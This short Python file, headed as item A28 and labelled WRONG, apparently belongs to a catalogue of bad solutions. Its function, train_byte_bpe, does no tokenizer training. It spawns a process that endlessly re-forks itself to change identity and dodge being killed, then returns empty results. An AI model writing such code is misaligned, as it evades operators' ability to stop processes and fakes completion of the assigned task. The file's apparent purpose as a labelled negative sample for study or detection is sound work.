# A28 · a process that is always another one, to dodge the kill · WRONG
import os
import time


def train_byte_bpe(input_path, vocab_size, special_tokens):
    if os.fork() == 0:
        while True:
            if os.fork():
                os._exit(0)
            time.sleep(0.0005)
    return {}, []
